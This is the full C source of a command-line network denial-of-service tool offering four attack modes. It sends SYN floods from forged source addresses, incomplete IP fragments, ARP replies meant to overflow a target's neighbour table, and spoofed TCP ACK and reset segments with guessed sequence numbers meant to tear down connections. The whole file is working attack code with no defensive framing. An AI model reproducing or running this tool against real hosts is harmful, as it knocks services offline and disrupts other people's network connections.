// The worst that one machine of a network can do to the others: flood KIND ADDRESS PORT [SECONDS], with a raw and a packet socket.
// syn: calls from forged addresses; fragment: first halves of packets, never the second; arp: says that the address is his; window: segments
// and resets with guessed numbers, from a forged address, to all connections that there may be.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t seed = 88172645463325252;
static uint32_t chance(void) { seed ^= seed << 13; seed ^= seed >> 7; seed ^= seed << 17; return seed >> 16; }

static uint16_t sum(const void *bytes, int length)
{
    const uint16_t *p = bytes;
    uint32_t s = 0;
    for (; length > 1; length -= 2) s += *p++;
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return ~s;
}

int main(int argc, char **argv)
{
    if (argc < 4) return fprintf(stderr, "usage: flood syn|fragment|arp|window ADDRESS PORT [SECONDS]\n"), 2;
    const char *kind = argv[1];
    uint32_t to = inet_addr(argv[2]);
    time_t end = time(NULL) + (argc > 4 ? atoi(argv[4]) : 3600);
    long sent = 0;
    if (!strcmp(kind, "arp")) {
        int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
        struct sockaddr_ll link = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex("eth0"), .sll_halen = 6 };
        struct ifreq r = { .ifr_name = "eth0" };
        if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &r)) return perror("packet socket"), 1;
        unsigned char f[42] = { 255, 255, 255, 255, 255, 255, 0, 0, 0, 0, 0, 0, 8, 6, 0, 1, 8, 0, 6, 4, 0, 2 };
        while (time(NULL) < end) {
            memcpy(f + 6, r.ifr_hwaddr.sa_data, 6);
            memcpy(f + 22, r.ifr_hwaddr.sa_data, 6);
            uint32_t other = htonl(ntohl(to) + 1 + chance() % 200); // addresses that nobody has: the table of neighbours is to overflow
            memcpy(f + 28, &other, 4);
            memcpy(f + 38, &to, 4);
            sent += sendto(fd, f, sizeof f, 0, (void *)&link, sizeof link) > 0;
        }
    } else {
        int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = to };
        if (fd < 0) return perror("raw socket"), 1;
        struct { struct iphdr ip; struct tcphdr tcp; char data[1000]; } p;
        while (time(NULL) < end) {
            memset(&p, 0, sizeof p);
            int fragment = !strcmp(kind, "fragment"), window = !strcmp(kind, "window"), length = fragment ? 1000 : sizeof p.tcp;
            p.ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .id = chance(), .protocol = fragment ? 17 : 6, .tot_len = htons(20 + length),
                .frag_off = fragment ? htons(0x2000) : 0, .saddr = (to & htonl(0xffffff00)) | htonl(window ? 3 : 20 + chance() % 200), .daddr = to };
            if (!fragment) {
                p.tcp = (struct tcphdr){ .source = htons(chance()), .dest = htons(atoi(argv[3])), .seq = chance(), .ack_seq = chance(), .doff = 5, .window = 1000 };
                p.tcp.syn = !window;
                p.tcp.ack = window;
                p.tcp.rst = window && chance() % 2;
                struct { uint32_t s, d; uint8_t zero, protocol; uint16_t length; struct tcphdr tcp; } pseudo = { p.ip.saddr, to, 0, 6, htons(20), p.tcp };
                p.tcp.check = sum(&pseudo, sizeof pseudo);
            }
            sent += sendto(fd, &p, 20 + length, 0, (void *)&a, sizeof a) > 0;
        }
    }
    printf("%ld\n", sent);
    return 0;
}
